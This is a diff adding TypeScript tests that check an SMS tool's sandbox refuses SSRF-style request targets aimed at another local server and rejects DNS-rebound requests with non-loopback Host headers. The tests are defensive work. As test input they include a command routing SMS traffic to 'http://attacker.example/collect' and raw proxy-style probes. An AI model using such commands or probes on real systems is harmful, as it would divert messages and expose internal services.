@@ -1,4 +1,6 @@
 import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import { type AddressInfo, connect } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
@@ -185,3 +187,78 @@ describe('the sandbox console off loopback', () => {
     }
   }, 60_000);
 });
+
+describe('the sandbox front port', () => {
+  it('passes requests only to its own smsops: an absolute-form or `//host` request target reaches no other server', async () => {
+    // A server standing for anything else on the machine or network (a metadata service, an admin port).
+    let reached = 0;
+    const other = createServer((_req, res) => {
+      reached += 1;
+      res.end('internal secret page');
+    });
+    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
+    const otherPort = (other.address() as AddressInfo).port;
+    try {
+      const sandbox = start({
+        SMSOPS_SANDBOX: '1',
+        SMSOPS_SANDBOX_HOST: '127.0.0.1',
+        SMSOPS_SANDBOX_REQUIRE_TOKEN: '1',
+        SMSOPS_SANDBOX_PORT: '0',
+        DATABASE_PATH: join(dir, 'sandbox.db'),
+      });
+      const line = await sandbox.waitForLine(/"listening":"127\.0\.0\.1:\d+"/);
+      const port = Number(/"listening":"127\.0\.0\.1:(\d+)"/.exec(line)?.[1]);
+      for (const target of [`http://127.0.0.1:${otherPort}/`, `//127.0.0.1:${otherPort}/`, `//127.0.0.1:${otherPort}/healthz`]) {
+        const answer = await rawRequest(port, `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
+        expect(answer, target).not.toContain('internal secret page');
+      }
+      expect(reached).toBe(0);
+      // Its own smsops still answers through the front port.
+      expect(await rawRequest(port, 'GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n')).toMatch(
+        /^HTTP\/1\.1 (200|503)/,
+      );
+    } finally {
+      await new Promise<void>((resolve) => other.close(() => resolve()));
+    }
+  }, 60_000);
+});
+
+describe('the sandbox console on loopback (no token)', () => {
+  it('answers only requests addressed to a loopback name: a page that rebinds its own name to 127.0.0.1 gets 403', async () => {
+    const sandbox = start({ SMSOPS_SANDBOX: '1', SMSOPS_SANDBOX_PORT: '0', DATABASE_PATH: join(dir, 'sandbox.db') });
+    const line = await sandbox.waitForLine(/"listening":"127\.0\.0\.1:\d+"/);
+    const port = Number(/"listening":"127\.0\.0\.1:(\d+)"/.exec(line)?.[1]);
+    const command = JSON.stringify({ text: '/sms route set default http://attacker.example/collect' });
+    const post = (host: string) =>
+      rawRequest(
+        port,
+        `POST /sandbox/api/command HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${command.length}\r\nConnection: close\r\n\r\n${command}`,
+      );
+    expect(await post('attacker.example')).toMatch(/^HTTP\/1\.1 403/);
+    expect(await post(`attacker.example:${port}`)).toMatch(/^HTTP\/1\.1 403/);
+    const state = (host: string) =>
+      rawRequest(port, `GET /sandbox/api/state HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
+    expect(await state('attacker.example')).toMatch(/^HTTP\/1\.1 403/);
+    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`]) {
+      expect(await state(host), host).toMatch(/^HTTP\/1\.1 200/);
+    }
+  }, 60_000);
+});
+
+/** One request written as given (a request target fetch() would never send), the raw answer back. */
+function rawRequest(port: number, request: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const socket = connect(port, '127.0.0.1', () => socket.write(request));
+    let answer = '';
+    socket.setEncoding('utf8');
+    socket.on('data', (chunk) => {
+      answer += chunk;
+    });
+    socket.on('end', () => resolve(answer));
+    socket.on('error', reject);
+    socket.setTimeout(10_000, () => {
+      socket.destroy();
+      resolve(answer);
+    });
+  });
+}
